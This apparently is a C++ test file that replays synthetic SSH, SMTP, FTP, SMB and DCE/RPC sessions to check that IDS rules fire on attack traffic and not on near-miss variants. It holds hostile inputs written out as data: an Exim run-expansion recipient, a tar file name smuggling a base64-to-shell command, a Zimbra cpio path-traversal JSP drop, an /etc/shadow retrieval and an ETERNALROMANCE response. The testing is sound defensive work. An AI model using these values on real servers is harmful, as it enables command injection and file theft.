                  le16(static_cast<uint16_t>(flags)) + le16(0);
  h += std::string(64 - h.size(), '\0');
  return netbios(h + rest);
}

std::string utf16(const std::string& ascii) {
  std::string out;
  for (const char ch : ascii) out += std::string(1, ch) + '\0';
  return out;
}

// ETERNALROMANCE's leaked-pool response: an SMB1 Trans reply with status 0xC0000005... as the
// rule reads it (05 00 00 80 after the command), and the three marker runs it looks for.
std::vector<Bytes> eternalromance(const std::string& status) {
  const std::string markers =
      "LSbfLScnLSepLSlfLSmf"
      "LSrfLSsrLSscLSblLSss"
      "LSshLStrLStcLSopLScd";
  return tcp_session({client(smb1(0x25, std::string(4, '\0'), 0x18, std::string(40, 'q'))),
                      server(smb1(0x25, status, 0x98, std::string(16, '\0') + markers))},
                     445);
}

// An SMB2 CREATE (command 5) of a file under \Windows\System32 on a share.
std::vector<Bytes> smb2_create(uint16_t command, const std::string& path) {
  const std::string negotiate = smb2(0, 0, std::string(36, '\0'));
  return tcp_session({client(negotiate), server(smb2(0, 1, std::string(64, '\0'))),
                      client(smb2(command, 0, std::string(56, '\0') + utf16(path))),
                      server(smb2(command, 1, std::string(88, '\0')))},
                     445);
}

// A DCE/RPC bind, then a request whose stub carries `stub` (C706 §12.6, little-endian drep).
std::string dcerpc_pdu(uint8_t type, const std::string& body) {
  const auto length = static_cast<uint16_t>(16 + body.size());
  return std::string("\x05\x00", 2) + static_cast<char>(type) + '\x03' +
         std::string("\x10\x00\x00\x00", 4) + le16(length) + le16(0) +
         std::string("\x02\x00\x00\x00", 4) + body;
}

// With `as_dcerpc` false, both ends open with a line of text first: no DCE/RPC to identify.
std::vector<Bytes> dcerpc_session(const std::string& stub, bool as_dcerpc = true) {
  const std::string prefix = as_dcerpc ? "" : "HELLO\r\n";
  const std::string bind = dcerpc_pdu(11, std::string(56, '\x01'));
  const std::string request = dcerpc_pdu(0, std::string(8, '\0') + stub);
  return tcp_session({client(prefix + bind),
                      server(prefix + dcerpc_pdu(12, std::string(40, '\x02'))), client(request)},
                     49666);
}

const std::string kWmiExecOutput = utf16("> \\\\127.0.0.1\\ADMIN$\\__1674582384.123");

struct RuleCase {
  std::string name;
  std::string rule;
  Home home;
  std::vector<Bytes> frames;
  int alerts;  // of the rule's sid
};

// gtest prints a failing parameter with this instead of its bytes.
void PrintTo(const RuleCase& c, std::ostream* os) { *os << c.name; }

std::vector<RuleCase> rule_cases() {
  std::vector<RuleCase> c;
  const auto add = [&](std::string name, const std::string& rule, Home home,
                       std::vector<Bytes> frames, int alerts) {
    c.push_back({"Sid" + std::to_string(sid_of(rule)) + "_" + std::move(name), rule, home,
                 std::move(frames), alerts});
  };
  const Home kC = Home::kClient, kS = Home::kServer;

  // ---- SSH
  // ssh_proto holds "PUTTY" only when the banner's protocol field does: the "SSH-2.0-PUTTY" of
  // brute-force tools has it in the software field, where Suricata does not look either.
  add("ProtoFieldNamesPutty", k2019876, kS,
      ssh_session({.client_banner = "SSH-PUTTY-Release_0.70"}), 1);
  add("NearMiss_PuttyIsTheSoftwareNotTheProto", k2019876, kS,
      ssh_session({.client_banner = "SSH-2.0-PUTTY"}), 0);
  add("LibsshSoftware", k2006435, kS, ssh_session({.client_banner = "SSH-2.0-libssh-0.6.0"}), 1);
  add("NearMiss_LibsshWithUnderscore", k2006435, kS,
      ssh_session({.client_banner = "SSH-2.0-libssh_0.6.0"}), 0);
  add("NearMiss_LibsshInTheComments", k2006435, kS,
      ssh_session({.client_banner = "SSH-2.0-OpenSSH_9.6 libssh-0.6.0"}), 0);
  add("NearMiss_LibsshIsTheServer", k2006435, kS,
      ssh_session({.server_banner = "SSH-2.0-libssh-0.6.0"}), 0);
  add("Libssh2Software", k2018689, kS, ssh_session({.client_banner = "SSH-2.0-libssh2_1.4.3"}), 1);
  add("NearMiss_Libssh2WithDash", k2018689, kS,
      ssh_session({.client_banner = "SSH-2.0-libssh2-1.4.3"}), 0);
  add("DropbearServerBanner", k2048645, kS,
      ssh_session({.server_banner = "SSH-2.0-dropbear_2016.74"}), 1);
  add("NearMiss_OtherDropbearRelease", k2048645, kS,
      ssh_session({.server_banner = "SSH-2.0-dropbear_2017.74"}), 0);
  add("NearMiss_DropbearIsTheClient", k2048645, kS,
      ssh_session({.client_banner = "SSH-2.0-dropbear_2016.74"}), 0);
  add("ServerBannerWithComment", k2013167, kS,
      ssh_session({.server_banner = "SSH-1.99-OpenSSH_3.5p1 FreeBSD-20030924"}), 1);
  add("NearMiss_Release3_5p2", k2013167, kS,
      ssh_session({.server_banner = "SSH-1.99-OpenSSH_3.5p2 FreeBSD-20030924"}), 0);
  const Ssh roaming = {.client_banner = "SSH-2.0-OpenSSH_5.4",
                       .server_banner = "SSH-2.0-OpenSSH_5.8",
                       .server_kex = kServerKex + ",resume@appgate.com"};
  add("ServerKexinitOffersRoaming", k2022369, kS, ssh_session(roaming), 1);
  Ssh tiny = roaming;
  tiny.mss = 3;
  add("ServerKexinitOffersRoamingInThreeByteSegments", k2022369, kS, ssh_session(tiny), 1);
  Ssh near = roaming;
  near.server_kex = kServerKex + ",resumE@appgate.com";
  add("NearMiss_RoamingNameInOtherCase", k2022369, kS, ssh_session(near), 0);
  add("LibsshSoftwareInThreeByteSegments", k2006435, kS,
      ssh_session({.client_banner = "SSH-2.0-libssh-0.6.0", .mss = 3}), 1);

  // ---- SMTP
  {
    Mail m;
    m.helo = "HELO *.*";
    add("StarDotStarHelo", k2026463, kS, smtp_session(m), 1);
    m.helo = "EHLO *.*";
    add("NearMiss_StarDotStarEhlo", k2026463, kS, smtp_session(m), 0);
  }
  {
    Mail m;
    m.rcpt_reply =
        "554 5.7.1 Service unavailable; Client host [198.51.100.1] blocked using "
        "cbl.abuseat.org; https://www.abuseat.org/lookup.cgi?ip=198.51.100.1";
    add("BlocklistReply", k2012982, kC, smtp_session(m), 1);
    m.rcpt_reply =
        "554 5.7.1 Service unavailable; Client host [198.51.100.1] blocked using "
        "cbl.abuseat.orc";
    add("NearMiss_OtherBlocklistName", k2012982, kC, smtp_session(m), 0);
  }
  {
    Mail m;
    m.rcpt_to = R"(<${run{\x2Fbin\x2Fsh\t-c\t\x22id\x22}}@localhost>)";
    add("RunExpansionInRecipient", k2027442, kS, smtp_session(m), 1);
    m.rcpt_to = R"(<${run(\x2Fbin\x2Fsh\t-c\t\x22id\x22}}@localhost>)";
    add("NearMiss_NoExpansionBrace", k2027442, kS, smtp_session(m), 0);
  }
  add("Base64ExecutableAttachment", k2017886, kS,
      smtp_session(
          with_attachment({"invoice.exe", "application/octet-stream", "base64", dos_executable()})),
      1);
  add("NearMiss_AttachmentStartingNZ", k2017886, kS,
      smtp_session(with_attachment(
          {"invoice.exe", "application/octet-stream", "base64", dos_executable('N')})),
      0);
  const std::string zimbra_path = "../../../../opt/zimbra/jetty/webapps/zimbra/public/cmd.jsp";
  const std::string jsp = "<% out.println(\"ok\"); %>\n";
  add("CpioAttachment", k2039143, kS,
      smtp_session(with_attachment(
          {"patch.cpio", "application/octet-stream", "base64", cpio_odc(zimbra_path, jsp)})),
      1);
  add("CpioAttachmentInOneByteSegments", k2039143, kS,
      smtp_session(with_attachment({"patch.cpio", "application/octet-stream", "base64",
                                    cpio_odc(zimbra_path, jsp)}),
                   1),
      1);
  {
    Mail m = with_attachment(
        {"patch.cpio", "application/octet-stream", "base64", cpio_odc(zimbra_path, jsp)});
    m.pipelined = true;
    add("CpioAttachmentAfterPipelinedEnvelope", k2039143, kS, smtp_session(m), 1);
  }
  add("NearMiss_NewcCpioMagic", k2039143, kS,
      smtp_session(with_attachment({"patch.cpio", "application/octet-stream", "base64",
                                    cpio_odc(zimbra_path, jsp, "070701")})),
      0);
  {
    // The exploit's second file name runs a command between quote-backtick pairs.
    const auto tar_mail = [](const std::string& second_name) {
      return smtp_session(
          with_attachment({"report.tar", "application/x-tar", "base64",
                           ustar({{"report.txt", "quarterly numbers\n"}, {second_name, "x\n"}})}));
    };
    add("TarAttachmentWithBacktickName", k2046280, kS,
        tar_mail("'`echo aWQ= | base64 -d | sh`'.txt"), 1);
    add("NearMiss_BacktickNotClosedByQuote", k2046280, kS,
        tar_mail("'`echo aWQ= | base64 -d | sh`_.txt"), 0);
  }
  add("QuotedPrintablePostScriptAttachment", k2026086, kS,
      smtp_session(with_attachment({"label.ps", "application/postscript", "quoted-printable",
                                    ghostscript_poc("errordict /invalidfileaccess { pop } put")})),
      1);
  add("NearMiss_ImmediateNameFailsThePcre", k2026086, kS,
      smtp_session(with_attachment({"label.ps", "application/postscript", "quoted-printable",
                                    ghostscript_poc("errordict//invalidfileaccess { pop } put")})),
      0);

  // ---- FTP
  add("AnonymousLogin", k2100553, kS,
      ftp_session({{"USER anonymous", "331 Please specify the password."},
                   {"PASS guest@", "230 Login successful."},
                   kQuit}),
      1);
  add("NearMiss_UserAn0nymous", k2100553, kS,
      ftp_session({{"USER an0nymous", "331 Please specify the password."},
                   {"PASS guest@", "530 Login incorrect."},
                   kQuit}),
      0);
  add("ShadowRetrieval", k2101928, kS,
      ftp_session({kUser, kPass, {"RETR /etc/shadow", "550 Failed to open file."}, kQuit}), 1);
  add("NearMiss_Shadov", k2101928, kS,
      ftp_session({kUser, kPass, {"RETR /etc/shadov", "550 Failed to open file."}, kQuit}), 0);
  add("ExeRequestInOneSegment", k2014906, kC,
      ftp_session({kUser, kPass, {"RETR setup.exe", "550 Failed to open file."}, kQuit}), 1);
  add("NearMiss_ExfRequest", k2014906, kC,
      ftp_session({kUser, kPass, {"RETR setup.exf", "550 Failed to open file."}, kQuit}), 0);
  {
    // The same command cut into two segments: no one packet holds it.
    std::vector<Step> steps = ftp_steps({kUser, kPass});
    steps.push_back(client("RETR set"));
    steps.push_back(client("up.exe\r\n"));
    steps.push_back(server("550 Failed to open file.\r\n"));
    add("NearMiss_ExeRequestAcrossTwoSegments", k2014906, kC, tcp_session(steps, 21, 40000), 0);
  }
  add("PortNamingAnotherHost", k2103441, kS,
      ftp_session(
          {kUser, kPass, {"PORT 198,51,100,99,160,40", "200 PORT command successful."}, kQuit}),
      1);
  add("NearMiss_PortNamingTheClient", k2103441, kS,
      ftp_session(
          {kUser, kPass, {"PORT 198,51,100,1,160,40", "200 PORT command successful."}, kQuit}),
      0);
  add("ScriptOverPassiveDataConnection", k2034695, kC, ftp_passive_download(vbscript("ftp://")), 1);
  add("NearMiss_NoFtpUrl", k2034695, kC, ftp_passive_download(vbscript("ftq://")), 0);

  // ---- SMB, DCE/RPC
  add("EternalromanceLeakResponse", k2024208, kS,
      eternalromance(std::string("\x05\x00\x00\x80", 4)), 1);
  add("NearMiss_OtherStatus", k2024208, kS, eternalromance(std::string("\x05\x00\x00\x81", 4)), 0);
  add("Smb2CreateInSystem32", k2027267, kS, smb2_create(5, "Windows\\System32\\evil.dll"), 1);
  add("NearMiss_Smb2CloseNotCreate", k2027267, kS, smb2_create(6, "Windows\\System32\\evil.dll"),
      0);
  add("WmiExecOutputRedirect", k2043996, Home::kBoth, dcerpc_session(kWmiExecOutput), 1);
  add("NearMiss_SameBytesNotDcerpc", k2043996, Home::kBoth, dcerpc_session(kWmiExecOutput, false),
      0);
  return c;
}

class AppRule : public ::testing::TestWithParam<RuleCase> {};

TEST_P(AppRule, AlertsOnTheSessionItIsWrittenForAndNeverOnTheNearMiss) {
  const RuleCase& t = GetParam();
  const Replay r = replay(t.name, t.frames, t.rule, home_is(t.home));
  ASSERT_EQ(r.run.status, 0) << t.rule << "\n" << r.run.err;
  const AlertCounts expected =
      t.alerts == 0 ? AlertCounts{} : AlertCounts{{sid_of(t.rule), t.alerts}};
  EXPECT_EQ(r.alerts, expected) << t.rule << "\nEVE:\n" << r.eve_text;
}

INSTANTIATE_TEST_SUITE_P(EtOpen, AppRule, ::testing::ValuesIn(rule_cases()),
                         [](const ::testing::TestParamInfo<RuleCase>& param) {
                           return param.param.name;
                         });

// ---- guards and protocol-level checks -----------------------------------------------------------

// Guards the file.data cases: the patterns are in the decoded attachment only, not in the encoded
// message the stream carries.
TEST(AppRules, AttachmentPatternsAreOnlyInTheDecodedContent) {
  const std::string cpio =
      cpio_odc("../../../../opt/zimbra/jetty/webapps/zimbra/public/cmd.jsp", "x");
  ASSERT_EQ(cpio.substr(0, 6), "070707");
  // "/jetty" ends within 100 bytes of the magic, "/webapps/zimbra/public" right after it.
  EXPECT_LE(cpio.find("/jetty") + 6, 106u);
  const std::string m =
      mime_message({{"patch.cpio", "application/octet-stream", "base64", cpio},
                    {"label.ps", "application/postscript", "quoted-printable",
                     ghostscript_poc("errordict /invalidfileaccess { pop } put")}});
  EXPECT_EQ(m.find("070707"), std::string::npos);
  EXPECT_EQ(m.find("/jetty"), std::string::npos);
  // The soft line breaks cut the PostScript keywords.
  EXPECT_EQ(m.find("undefinedfilename"), std::string::npos) << m;
  EXPECT_EQ(m.find("invalidfileaccess"), std::string::npos) << m;
  const std::string tar = ustar({{"a", "b"}, {"'`id`'.txt", "c"}});
  EXPECT_EQ(tar.size(), 6u * 512);
  EXPECT_EQ(tar.substr(257, 5), "ustar");
  EXPECT_EQ(tar.find("'`"), 1024u);
  EXPECT_EQ(base64(dos_executable()).substr(0, 2), "TV");
  EXPECT_EQ(base64("any carnal pleas"), "YW55IGNhcm5hbCBwbGVhcw==");
}

// The same matching mail, sent once as a plain body rather than an attachment: file.data is
// attachments only, as Suricata's SMTP file tracking.
TEST(AppRules, FileDataRulesIgnoreTheMessageBody) {
  Mail m;
  m.message =
      "From: <alice@example.org>\r\nTo: <bob@example.net>\r\nSubject: label\r\n"
      "Content-Type: application/postscript\r\n\r\n" +
      crlf(ghostscript_poc("errordict /invalidfileaccess { pop } put"));
  const Replay r = replay("ps-in-body", smtp_session(m), k2026086, home_is(Home::kServer));
  ASSERT_EQ(r.run.status, 0) << r.run.err;
  EXPECT_TRUE(r.alerts.empty()) << r.eve_text;
}

// A file.data rule alerts once per mail with a matching attachment, however many it has.
TEST(AppRules, FileDataRuleAlertsOncePerMail) {
  const MimeAttachment cpio = {
      "patch.cpio", "application/octet-stream", "base64",
      cpio_odc("../../../../opt/zimbra/jetty/webapps/zimbra/public/cmd.jsp", "x")};
  const MimeAttachment text = {"notes.txt", "text/plain", "base64", "nothing to see\n"};
  Mail clean, matching, second_of_two, twice;
  clean.message = mime_message({text});
  matching.message = mime_message({cpio});
  second_of_two.message = mime_message({text, cpio});
  twice.message = mime_message({cpio, cpio});
  for (const auto& [name, mails, alerts] :
       std::vector<std::tuple<std::string, std::vector<Mail>, int>>{
           {"clean-then-matching", {clean, matching}, 1},
           {"matching-twice", {matching, matching}, 2},
           {"second-attachment", {clean, second_of_two}, 1},
           {"two-matching-attachments", {twice}, 1}}) {
    const Replay r = replay(name, smtp_session_of(mails), k2039143, home_is(Home::kServer));
    ASSERT_EQ(r.run.status, 0) << r.run.err;
    EXPECT_EQ(alerts_of(r, 2039143), alerts) << name << "\n" << r.eve_text;
  }
}

// threshold type limit, by_src, count 1 in 30 s: two libssh connections from one client alert once.
TEST(AppRules, ThresholdLimitAlertsOnceForRepeatedSshConnections) {
  std::vector<Bytes> frames =
      ssh_session({.client_banner = "SSH-2.0-libssh-0.6.0", .client_port = 50001});
  append(frames, ssh_session({.client_banner = "SSH-2.0-libssh-0.6.0", .client_port = 50002}));
  const Replay r = replay("ssh-limit", frames, k2006435, home_is(Home::kServer));
  ASSERT_EQ(r.run.status, 0) << r.run.err;
  EXPECT_EQ(r.alerts, (AlertCounts{{2006435, 1}})) << r.eve_text;
}

// `n` libssh connections from one client, each with its banner and KEXINIT.
std::vector<Bytes> libssh_connections(int n, const std::string& client_kex) {
  std::vector<Bytes> frames;
  for (int i = 0; i < n; ++i) {
    append(frames, ssh_session({.client_banner = "SSH-2.0-libssh_0.7.0",
                                .client_kex = client_kex,
                                .client_port = static_cast<uint16_t>(50100 + i)}));
  }
  return frames;
}

void expect_fifth_connection_alerts(const std::string& client_kex) {
  for (const auto& [n, expected] :
       std::map<int, AlertCounts>{{4, {}}, {5, {{2006546, 1}}}, {7, {{2006546, 1}}}}) {
    const Replay r = replay("ssh-both-" + std::to_string(n), libssh_connections(n, client_kex),
                            k2006546, home_is(Home::kServer));
    ASSERT_EQ(r.run.status, 0) << r.run.err;
    EXPECT_EQ(r.alerts, expected) << n << " connections\n" << r.eve_text;
  }
}

// threshold type both, count 5 in 30 s by_src: the fifth matching connection alerts, once; four
// do not. Here the client's KEXINIT names no libssh algorithm.
TEST(AppRules, ThresholdBothNeedsFiveLibsshConnections) {
  expect_fifth_connection_alerts("curve25519-sha256,ecdh-sha2-nistp256");
}

// The same with the KEXINIT libssh really sends, which offers curve25519-sha256@libssh.org after
// the banner: that later segment holds the rule's fast pattern ("libssh") again, and the stream
// window still holds the banner's "SSH-".."libssh". A match must reach the new bytes, so the
// banner counts once per connection, as in Suricata, which inspects each stretch of the raw
// stream once.
TEST(AppRules, ThresholdBothCountsOneMatchPerLibsshConnection) {
  expect_fifth_connection_alerts(kClientKex);
}

// The alerts name the protocol of their flow.
TEST(AppRules, AlertsCarryTheirAppProto) {
  const Replay ssh = replay("proto-ssh", ssh_session({.client_banner = "SSH-2.0-libssh-0.6.0"}),
                            k2006435, home_is(Home::kServer));
  ASSERT_EQ(ssh.run.status, 0) << ssh.run.err;
  EXPECT_NE(ssh.eve_text.find(R"("app_proto":"ssh")"), std::string::npos) << ssh.eve_text;
  Mail m;
  m.helo = "HELO *.*";
  const Replay smtp = replay("proto-smtp", smtp_session(m), k2026463, home_is(Home::kServer));
  ASSERT_EQ(smtp.run.status, 0) << smtp.run.err;
  EXPECT_NE(smtp.eve_text.find(R"("app_proto":"smtp")"), std::string::npos) << smtp.eve_text;
  const Replay ftp_data = replay("proto-ftp-data", ftp_passive_download(vbscript("ftp://")),
                                 k2034695, home_is(Home::kClient));
  ASSERT_EQ(ftp_data.run.status, 0) << ftp_data.run.err;
  EXPECT_NE(ftp_data.eve_text.find(R"("app_proto":"ftp-data")"), std::string::npos)
      << ftp_data.eve_text;
}

// The script on a connection no PASV/PORT announced is not ftp-data.
TEST(AppRules, FtpDataRuleIgnoresAnUnannouncedConnection) {
  std::vector<Bytes> frames = ftp_session({kUser, kPass, kQuit});
  TcpConversation other({kClientIp, 40002, kClientMac}, {kServerIp, 50001, kServerMac});
  append(frames, other.handshake());
  append(frames, other.server_sends(vbscript("ftp://")));
  append(frames, other.close());
  const Replay r = replay("ftp-data-unannounced", frames, k2034695, home_is(Home::kClient));
  ASSERT_EQ(r.run.status, 0) << r.run.err;
  EXPECT_TRUE(r.alerts.empty()) << r.eve_text;
}

}  // namespace
}  // namespace spanguard::testing
